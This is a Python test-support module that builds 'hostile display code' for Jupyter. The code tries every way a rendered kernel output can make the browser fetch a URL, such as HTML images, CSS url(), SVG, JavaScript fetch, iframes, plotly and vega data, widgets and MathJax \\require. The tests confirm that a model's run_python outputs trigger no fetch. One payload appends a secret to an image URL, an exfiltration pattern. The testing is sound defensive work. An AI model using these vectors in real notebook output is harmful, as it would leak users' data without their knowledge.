"""Test support for "nothing run_python displays fetches by itself": the hostile display code.

Owns `hostile_display_code` (Python that displays every vector a kernel output can use to make
the browser fetch — HTML, Markdown, SVG, JavaScript, IFrame, a plotly-style script, vega-lite
and plotly payloads, ipywidgets, an `update_display`, a display from a thread the code starts, math with CSS `url()`s — each at its own path of a counting
server, plus a pandas table and a matplotlib PNG that must still arrive) and `DISPLAY_PATHS`.
Used by tests/notebook/test_run_python_no_fetch.py (real kernel) and tests/browser/test_browser_run_python_no_fetch.py
(real JupyterLab), where the same code in a user's own cell is the control.
"""

from __future__ import annotations

# Every vector of hostile_display_code, by the path it would request.
DISPLAY_PATHS = (
    "/html-img",
    "/css-url",
    "/md-img",
    "/svg-href",
    "/js-fetch",
    "/iframe",
    "/script-src",
    "/vega-data",
    "/plotly-img",
    "/widget-html",
    "/widget-image",
    "/update-img",
    "/thread-img",
)


# Math that JupyterLab's MathJax typesets from run_python's text/latex and HTML text (kept):
# MathJax must load nothing for it, in a user's cell too.
MATH_PATHS = ("/math-html-style", "/math-latex-style", "/math-unicode-font", "/math-require")


def hostile_display_code(base: str) -> str:
    """Code a model could run with run_python: every display vector aimed at `base`."""
    return f"""\
import ipywidgets
import matplotlib
matplotlib.use("module://matplotlib_inline.backend_inline")
import matplotlib.pyplot as plt
import pandas as pd
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

display(HTML('<p>report</p><img src="{base}/html-img?secret=s3cr3t-value">'))
display(HTML('<div style="background-image:url({base}/css-url)">styled</div>'))
display(Markdown('![chart]({base}/md-img?d=1) **done**'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><image href="{base}/svg-href" width="4" height="4"/></svg>'))
display(Javascript('fetch("{base}/js-fetch")'))
display(IFrame("{base}/iframe", 40, 40))
display(HTML('<script src="{base}/script-src"></script><div id="chart">chart</div>'))
display({{"application/vnd.vegalite.v5+json": {{"data": {{"url": "{base}/vega-data"}}, "mark": "point"}},
          "text/plain": "<VegaLite 5 object>"}}, raw=True)
display({{"application/vnd.plotly.v1+json": {{"data": [], "layout": {{"images": [{{"source": "{base}/plotly-img"}}]}}}},
          "text/plain": "Figure()"}}, raw=True)
display(ipywidgets.HTML('<img src="{base}/widget-html">'))
display(ipywidgets.Image(value=b"{base}/widget-image", format="url"))
display(HTML(r'<p>$\\style{{background-image:url({base}/math-html-style)}}{{x}}$</p>'))
display(Latex(r'$\\style{{background-image:url({base}/math-latex-style)}}{{y}} \\unicode[{base}/math-unicode-font]{{x41}}$'))
import threading
shown_later = threading.Thread(target=lambda: display(HTML('<img src="{base}/thread-img">')))
shown_later.start()
shown_later.join()
display(Latex(r'$\\require{{{base}/math-require}} z$'))
handle = display(HTML("<p>waiting</p>"), display_id=True)
handle.update(HTML('<img src="{base}/update-img">'))
display(pd.DataFrame({{"region": ["North", "South"], "units": [120, 45]}}))
fig, ax = plt.subplots(figsize=(1, 1))
ax.plot([1, 2, 3])
display(fig)
plt.close(fig)
print("displayed")
"""
